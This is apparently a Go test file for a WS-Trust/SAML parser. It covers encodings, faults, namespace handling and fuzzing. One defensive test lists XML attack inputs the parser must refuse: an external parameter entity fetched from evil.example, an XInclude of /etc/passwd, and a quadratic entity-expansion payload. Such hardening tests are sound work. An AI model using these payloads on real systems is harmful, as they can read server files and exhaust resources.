package wstrust

import (
	"bytes"
	"encoding/binary"
	"errors"
	"strings"
	"testing"
	"unicode/utf16"
)

// Shapes that documents have in the wild: the same information by other means
// of XML, SOAP and the policies. All were written for this test.

func TestMetadataOfManyBindings(t *testing.T) {
	t.Parallel()
	want := Endpoint{"https://sts.example.com/trust/13/usernamemixed?a=1&b=2", Trust13}
	for name, document := range encodings(string(read(t, "mex/many-bindings.xml"))) {
		if got, err := parseMetadata(document); err != nil || got != want {
			t.Errorf("%s: got %+v, %v, want %+v", name, got, err, want)
		}
	}
}

// encodings are a document in every encoding that is read. Its declaration is
// put right; what Latin 1 does not have becomes a reference.
func encodings(document string) map[string][]byte {
	_, body, found := strings.Cut(document, "?>")
	if !found || !strings.HasPrefix(document, "<?xml ") {
		body = document
	}
	wide := func(order binary.AppendByteOrder, text string) []byte {
		var b []byte
		for _, u := range utf16.Encode([]rune(text)) {
			b = order.AppendUint16(b, u)
		}
		return b
	}
	var latin []byte
	for _, r := range `<?xml version="1.0" encoding="ISO-8859-1"?>` + body {
		latin = append(latin, byte(r))
	}
	const declared = `<?xml version="1.0" encoding="utf-16"?>`
	return map[string][]byte{
		"as it is":                []byte(document),
		"UTF-8":                   []byte(`<?xml version="1.0" encoding="utf-8"?>` + body),
		"UTF-8 with a mark":       []byte("\xef\xbb\xbf" + body),
		"UTF-16 LE":               append([]byte("\xff\xfe"), wide(binary.LittleEndian, declared+body)...),
		"UTF-16 BE":               append([]byte("\xfe\xff"), wide(binary.BigEndian, declared+body)...),
		"UTF-16 LE without mark":  wide(binary.LittleEndian, declared+body),
		"UTF-16 BE without mark":  wide(binary.BigEndian, declared+body),
		"ISO-8859-1":              latin,
		"with line ends of DOS":   []byte(strings.ReplaceAll(document, "\n", "\r\n")),
		"with blanks at the end":  []byte(document + " \n\t"),
		"with single quotes":      []byte(strings.ReplaceAll(document, `"`, `'`)),
		"with all of it in lines": []byte(strings.ReplaceAll(document, "><", ">\n<")),
	}
}

func TestResponsesInEveryEncoding(t *testing.T) {
	t.Parallel()
	document := string(read(t, "response/trust13-saml20-profile.xml"))
	document = strings.Replace(document, "https://sts.example.com</Issuer>", "https://sts.example.com/Köln</Issuer>", 1)
	for name, form := range encodings(document) {
		a, err := parseResponse(form, secret)
		if err != nil || a.Version != SAML20 || !bytes.Contains(a.XML, []byte("/Köln</Issuer>")) {
			t.Errorf("%s: %v", name, err)
		}
	}
}

func TestTheRightTokenAmongOthers(t *testing.T) {
	t.Parallel()
	a, err := parseResponse(read(t, "response/trust13-saml11-among-others.xml"), secret)
	if err != nil || a.Version != SAML11 {
		t.Fatalf("got %+v, %v", a, err)
	}
	const want = `<!-- first --><A:Assertion xmlns:A='urn:oasis:names:tc:SAML:1.0:assertion' AssertionID='_"3"'><A:Conditions NotBefore="2026-01-01T00:00:00Z"/><A:Advice><![CDATA[</W:RequestedSecurityToken>]]></A:Advice></A:Assertion>`
	if string(a.XML) != want {
		t.Errorf("the assertion is %q", a.XML)
	}
}

func TestFaultsInEveryEncoding(t *testing.T) {
	t.Parallel()
	want := Fault{Code: "FailedAuthentication", Reason: "<The> password has expired."}
	for name, form := range encodings(string(read(t, "response/fault12-words.xml"))) {
		_, err := parseResponse(form, secret)
		var got *Fault
		if !errors.As(err, &got) || *got != want {
			t.Errorf("%s: got %#v", name, err)
		}
	}
}

// No encoding smuggles a declaration past the check, and what is not XML at all
// is said to be so.
func TestDangerousDocumentsAreRefusedInEveryEncoding(t *testing.T) {
	t.Parallel()
	for name, tt := range map[string]struct {
		document string
		problem  Problem
	}{
		"declaration":            {`<!DOCTYPE a><a/>`, ProblemDoctype},
		"internal entity":        {`<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>`, ProblemDoctype},
		"quadratic entity":       {`<!DOCTYPE a [<!ENTITY b "` + strings.Repeat("c", 1<<16) + `">]><a>` + strings.Repeat("&b;", 1<<12) + `</a>`, ProblemDoctype},
		"parameter entity":       {`<!DOCTYPE a [<!ENTITY % b SYSTEM "https://evil.example/b.dtd"> %b;]><a/>`, ProblemDoctype},
		"declaration in capital": {`<a><!doctype b></a>`, ProblemDoctype},
		"page of a person":       {`<!doctype html><html><body><form>Sign in<br></form></body></html>`, ProblemDoctype},
		"page without a type":    {`<html><body>Sign in<br></body></html>`, ProblemNotXML},
		"entity of HTML":         {`<a>&nbsp;</a>`, ProblemNotXML},
		"inclusion":              {`<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" parse="text"/>`, ProblemNotXML},
		"CDATA without an end":   {`<a><![CDATA[b</a>`, ProblemNotXML},
		"comment without an end": {`<a><!-- b</a>`, ProblemNotXML},
		"deep":                   {strings.Repeat("<a>", maxDepth+1) + strings.Repeat("</a>", maxDepth+1), ProblemSize},
	} {
		for form, document := range encodings(tt.document) {
			for _, parser := range []func([]byte) error{
				func(b []byte) error { _, err := parseMetadata(b); return err },
				func(b []byte) error { _, err := parseResponse(b, secret); return err },
			} {
				err := parser(document)
				var e *DocumentError
				if !errors.As(err, &e) || e.Problem != tt.problem {
					t.Errorf("%s, %s: got %v, want %q", name, form, err, tt.problem)
				}
			}
		}
	}
}

// Some providers declare a prefix of the assertion further out. Cut out of its
// surroundings it would mean nothing, so the declaration goes with it.
func TestDeclarationsAroundTheAssertionGoWithIt(t *testing.T) {
	t.Parallel()
	const before, after = `<RequestedSecurityToken xmlns="` + namespace13 + `">`, `</RequestedSecurityToken>`
	around := func(declarations, token string) string {
		return `<s:Envelope xmlns:s="` + nsSOAP12 + `" ` + declarations + `><s:Body><RequestSecurityTokenResponse xmlns="` + namespace13 + `">` +
			before + token + after + `</RequestSecurityTokenResponse></s:Body></s:Envelope>`
	}
	const saml, xs = ` xmlns:saml="` + nsSAML20 + `"`, ` xmlns:xs='urn:a&amp;&quot;b'`
	for name, tt := range map[string]struct{ declarations, token, want string }{
		"nothing is missing": {saml, `<saml:Assertion` + saml + `/>`, `<saml:Assertion` + saml + `/>`},
		"the root's prefix":  {saml, ` <saml:Assertion ID="1"><saml:A/></saml:Assertion>`, ` <saml:Assertion` + saml + ` ID="1"><saml:A/></saml:Assertion>`},
		"behind a comment":   {saml, `<!-- <x> --><saml:Assertion/>`, `<!-- <x> --><saml:Assertion` + saml + `/>`},
		"of an attribute":    {saml + xs, `<saml:Assertion` + saml + `><saml:A xs:n="1"/></saml:Assertion>`, `<saml:Assertion xmlns:xs="urn:a&amp;&quot;b"` + saml + `><saml:A xs:n="1"/></saml:Assertion>`},
		"in a value":         {saml + xs, `<saml:Assertion` + saml + ` type="xs:string"/>`, `<saml:Assertion xmlns:xs="urn:a&amp;&quot;b"` + saml + ` type="xs:string"/>`},
		"in another value":   {saml + xs, `<saml:Assertion` + saml + ` t="xs:string"/>`, `<saml:Assertion` + saml + ` t="xs:string"/>`},
		"two":                {xs + saml, `<saml:Assertion xs:n="1"/>`, `<saml:Assertion` + saml + ` xmlns:xs="urn:a&amp;&quot;b" xs:n="1"/>`},
		"declared below":     {saml + xs, `<saml:Assertion` + saml + `><a xmlns:xs="urn:c" xs:n="1"/></saml:Assertion>`, `<saml:Assertion` + saml + `><a xmlns:xs="urn:c" xs:n="1"/></saml:Assertion>`},
		"declared too late":  {saml + xs, `<saml:Assertion` + saml + `><a xmlns:xs="urn:c"/><b xs:n="1"/></saml:Assertion>`, `<saml:Assertion xmlns:xs="urn:a&amp;&quot;b"` + saml + `><a xmlns:xs="urn:c"/><b xs:n="1"/></saml:Assertion>`},
		"of nobody":          {saml, `<saml:Assertion` + saml + ` no:n="http://x"/>`, `<saml:Assertion` + saml + ` no:n="http://x"/>`},
		"prefix of XML":      {saml, `<saml:Assertion` + saml + ` xml:lang="en"/>`, `<saml:Assertion` + saml + ` xml:lang="en"/>`},
	} {
		a, err := parseResponse([]byte(around(tt.declarations, tt.token)), secret)
		if err != nil || a.Version != SAML20 || string(a.XML) != tt.want {
			t.Errorf("%s: got %s, %v, want %s", name, bytesOf(a), err, tt.want)
		}
	}
}

func bytesOf(a *Assertion) []byte {
	if a == nil {
		return nil
	}
	return a.XML
}

// FuzzAssertion: what stands by itself stays as it is.
func FuzzAssertion(f *testing.F) {
	f.Add([]byte(`<saml:Assertion xmlns:saml="urn:x" a="saml:b"/>`))
	f.Add([]byte(`<!-- <x> --><a:b c:d='e'><f xmlns:c="g" xmlns="h"/></a:b>`))
	f.Fuzz(func(t *testing.T, document []byte) {
		if got := selfContained(document, 0, int64(len(document))); !bytes.Equal(got, document) {
			t.Errorf("%q became %q", document, got)
		}
		const open = `<o xmlns:a="urn:a" xmlns:c="urn:c">`
		got := selfContained(append([]byte(open), document...), int64(len(open)), int64(len(open)+len(document)))
		if len(got) < len(document) {
			t.Errorf("%q lost something: %q", document, got)
		}
	})
}
